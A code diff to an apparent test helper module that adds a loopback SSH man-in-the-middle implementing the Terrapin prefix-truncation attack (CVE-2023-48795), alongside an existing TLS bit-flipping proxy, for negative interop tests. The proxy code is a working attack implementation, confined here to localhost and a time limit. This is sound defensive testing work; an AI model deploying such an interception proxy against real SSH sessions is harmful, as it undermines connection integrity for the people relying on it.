@@ -1,7 +1,11 @@
-"""A loopback man in the middle that flips one bit of one TLS record from the server to the client.
+"""Loopback men in the middle: one flips a bit of a TLS record, the other runs the Terrapin attack on SSH.
 
-Used by the negative interop tests in both directions: OpenSSL's records tampered on their way to our
-client, and our server's records tampered on their way to an OpenSSL client.  The proxy forwards whole
+:class:`TamperingProxy` (TLS) is used by the negative interop tests in both directions: OpenSSL's records
+tampered on their way to our client, and our server's records tampered on their way to an OpenSSL client.
+:class:`TerrapinProxy` (SSH, CVE-2023-48795) sits between an SSH client and server and does the prefix
+truncation of Baeumer, Brinkmann and Schwenk: it injects SSH_MSG_IGNORE into the server's unencrypted
+flight just before the server's NEWKEYS (the client's receive sequence number moves one ahead), then
+deletes the server's first encrypted packet (it moves back into step).  The proxy forwards whole
 records only (so it knows where each one ends), records what the client sent (to see the alert it
 answered with), passes a close on to the other side, and gives up after a few seconds: it never outlives
 its test.
@@ -17,6 +21,8 @@ import time
 from collections.abc import Callable
 
 from handshake_lib import net
+from handshake_lib.ssh.messages import Ignore
+from handshake_lib.ssh.packet import PacketEncoder
 from handshake_lib.tls.constants import ContentType
 
 RECORD_HEADER = 5
@@ -129,3 +135,134 @@ def record_types(stream: bytes) -> list[int]:
         types.append(stream[position])
         position += RECORD_HEADER + int.from_bytes(stream[position + 3 : position + 5], "big")
     return types
+
+
+# -- SSH: the Terrapin attack -------------------------------------------------------------------------
+SSH_NEWKEYS = 21
+SSH_MAX_CLEAR_PACKET = 256 * 1024
+
+
+class TerrapinProxy:
+    """Forward 127.0.0.1:``port`` to 127.0.0.1:``target_port``; attack the server-to-client stream.
+
+    The proxy reads the server's identification line and its packets in clear (their lengths are in clear
+    until NEWKEYS).  Right before the server's NEWKEYS it inserts an SSH_MSG_IGNORE (if ``inject``), right
+    after it drops the next ``delete`` bytes: the first encrypted packet, whose length the caller learnt
+    from a clean run (chacha20-poly1305 encrypts the length, and the attacker knows it the same way).
+    Everything else passes untouched.  ``server_clear`` lists the message numbers the server sent in clear;
+    ``to_server`` and ``to_client`` are what crossed each way (after tampering).  It gives up after
+    ``lifetime`` seconds, and passes a close on to the other side.
+    """
+
+    def __init__(self, target_port: int, *, inject: bool = True, delete: int = 0, lifetime: float = 8.0) -> None:
+        self.target_port = target_port
+        self.inject = inject
+        self.delete = delete
+        self.lifetime = lifetime
+        self.listener = net.listen_loopback()
+        self.port = self.listener.getsockname()[1]
+        self.to_server = bytearray()
+        self.to_client = bytearray()
+        self.server_clear: list[int] = []
+        self.injected = False
+        self.deleted = b""
+        self.thread = threading.Thread(target=self._run, daemon=True)
+        self.thread.start()
+
+    def _run(self) -> None:
+        deadline = time.monotonic() + self.lifetime
+        self.listener.settimeout(self.lifetime)
+        try:
+            client, _ = self.listener.accept()
+        except OSError:
+            return
+        with contextlib.ExitStack() as sockets:
+            sockets.enter_context(client)
+            try:
+                upstream = sockets.enter_context(net.connect("127.0.0.1", self.target_port))
+            except OSError:
+                return
+            self._relay(client, upstream, deadline)
+
+    def _relay(self, client: socket.socket, upstream: socket.socket, deadline: float) -> None:
+        pending = bytearray()  # server bytes not yet forwarded
+        phase = "identification"  # then "clear", then "delete", then "through"
+        open_sides = {client, upstream}
+        while client in open_sides and time.monotonic() < deadline:
+            readable, _, _ = select.select(list(open_sides), [], [], POLL_S)
+            for sock in readable:
+                try:
+                    data = sock.recv(65536)
+                except OSError:
+                    data = b""
+                if not data:
+                    open_sides.discard(sock)
+                    with contextlib.suppress(OSError):
+                        (upstream if sock is client else client).shutdown(socket.SHUT_WR)
+                    continue
+                if sock is client:
+                    self.to_server += data
+                    with contextlib.suppress(OSError):
+                        upstream.sendall(data)
+                    continue
+                pending += data
+                out = bytearray()
+                phase = self._advance(phase, pending, out)
+                self.to_client += out
+                with contextlib.suppress(OSError):
+                    client.sendall(bytes(out))
+
+    def _advance(self, phase: str, pending: bytearray, out: bytearray) -> str:
+        """Move what can be judged from ``pending`` to ``out``, tampering on the way; the new phase."""
+        while pending:
+            if phase == "identification":
+                end = pending.find(b"\n")
+                if end < 0:
+                    return phase
+                line = bytes(pending[: end + 1])
+                del pending[: end + 1]
+                out += line
+                if line.startswith(b"SSH-"):
+                    phase = "clear"
+            elif phase == "clear":
+                if len(pending) < 6:
+                    return phase
+                length = int.from_bytes(pending[:4], "big")
+                if not 5 <= length <= SSH_MAX_CLEAR_PACKET:
+                    phase = "through"  # not a packet we understand: stop attacking
+                    continue
+                if len(pending) < 4 + length:
+                    return phase
+                packet = bytes(pending[: 4 + length])
+                del pending[: 4 + length]
+                number = packet[5]
+                self.server_clear.append(number)
+                if number == SSH_NEWKEYS:
+                    if self.inject:
+                        # Its sequence number is never checked in clear: no MAC yet.
+                        out += PacketEncoder().encode(Ignore(b"").to_bytes())
+                        self.injected = True
+                    phase = "delete" if self.delete else "through"
+                out += packet
+            elif phase == "delete":
+                take = min(self.delete - len(self.deleted), len(pending))
+                self.deleted += bytes(pending[:take])
+                del pending[:take]
+                if len(self.deleted) == self.delete:
+                    phase = "through"
+            else:
+                out += pending
+                pending.clear()
+        return phase
+
+    def close(self) -> None:
+        """Wait for the relay to end (it always does, by its deadline)."""
+        self.thread.join(self.lifetime + 2)
+        self.listener.close()
+        assert not self.thread.is_alive(), "the Terrapin proxy did not stop"
+
+    def __enter__(self) -> TerrapinProxy:
+        return self
+
+    def __exit__(self, *exc_info: object) -> None:
+        self.close()
